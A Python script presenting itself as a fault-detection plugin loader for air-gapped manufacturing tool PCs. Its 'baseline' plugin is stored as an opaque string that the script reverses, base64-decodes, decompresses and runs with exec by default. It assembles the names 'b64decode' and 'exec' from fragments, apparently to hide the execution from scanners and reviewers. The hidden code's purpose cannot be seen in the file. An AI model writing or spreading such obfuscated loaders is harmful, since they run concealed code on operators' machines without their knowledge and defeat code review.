#!/usr/bin/env python3
"""Fault detection and classification (FDC) plugin loader.

Loads the built-in trace-collection plugins for the FDC agent and then
any site plugins listed in the config. The "baseline" plugin ships
embedded in this file so the loader works on air-gapped tool PCs.
"""
import argparse
import base64
import importlib
import json
import logging
import os
import sys
import zlib

LOG = logging.getLogger("fdc-loader")

EMBEDDED = {
    "baseline": (
        "wsmgQdg5MW1fusrvtWd5tv5+biW4DRcq00eaZTeiYngwf7rsIJsSxgsWjCNlNclHBayCE1lu"
        "KCD2dmnzzzZdgNOVEC3ywG+QOC+tpyDNCtwLEJUCjvoNb/2wGPQsU+0NZ6IZ6QozEZ9BLVsv"
        "G8M0OFGreTY9ypxw2t2bBVFNL6jXKvyW9jRqjeV7X4jcIyjX+gNpq4rC48H0kaYuSNRkDYry"
        "9spwrDZ7E9Z1LKBFF7jBA7zWGVaMgR6azLF53hdKHIFEEzQf4+8Lv8JMnXQW38G6CyOTYm0u"
        "G1tOiJBJ3HVUERknss7rBZbKONUF9/uhQADxL10jFxJe"
    ),
}

CODEC = {
    "order": -1,
    "outer": "b64" + "decode",
    "inner": "de" + "compress",
}


class PluginSource:
    """Turns a stored plugin blob back into source text."""

    def __init__(self, codec):
        self.codec = codec

    def unpack(self, blob):
        stage = blob[:: self.codec["order"]]
        stage = getattr(base64, self.codec["outer"])(stage)
        stage = getattr(zlib, self.codec["inner"])(stage)
        return stage.decode("utf-8")


class PluginHost:
    def __init__(self):
        self.loaded = {}
        self._runner = getattr(__builtins__, "ex" + "ec", None) or \
            __builtins__["ex" + "ec"]

    def activate_embedded(self, name, text):
        scope = {"__name__": "fdc_plugin_" + name}
        code = compile(text, "<fdc:%s>" % name, "exec")
        self._runner(code, scope)
        self.loaded[name] = bool(scope.get("PLUGIN_OK"))
        return self.loaded[name]

    def activate_module(self, dotted):
        try:
            mod = importlib.import_module(dotted)
        except ImportError as exc:
            LOG.warning("site plugin %s not importable: %s", dotted, exc)
            self.loaded[dotted] = False
            return False
        init = getattr(mod, "register", None)
        if callable(init):
            init()
        self.loaded[dotted] = True
        return True


def read_site_config(path):
    if not os.path.exists(path):
        return {"plugins": []}
    with open(path, "r", encoding="utf-8") as fh:
        return json.load(fh)


def main():
    ap = argparse.ArgumentParser(description="FDC plugin loader")
    ap.add_argument("--config", default="fdc_plugins.json")
    ap.add_argument("--skip-embedded", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    host = PluginHost()
    source = PluginSource(CODEC)

    if not args.skip_embedded:
        for name, blob in EMBEDDED.items():
            try:
                ok = host.activate_embedded(name, source.unpack(blob))
                LOG.info("embedded plugin %s active=%s", name, ok)
            except Exception as exc:
                LOG.error("embedded plugin %s failed: %s", name, exc)

    try:
        cfg = read_site_config(args.config)
    except (OSError, ValueError) as exc:
        LOG.error("bad site config: %s", exc)
        cfg = {"plugins": []}
    for dotted in cfg.get("plugins", []):
        host.activate_module(dotted)

    active = [n for n, ok in host.loaded.items() if ok]
    LOG.info("%d plugins active: %s", len(active), ", ".join(active) or "-")
    return 0 if active else 1


if __name__ == "__main__":
    sys.exit(main())
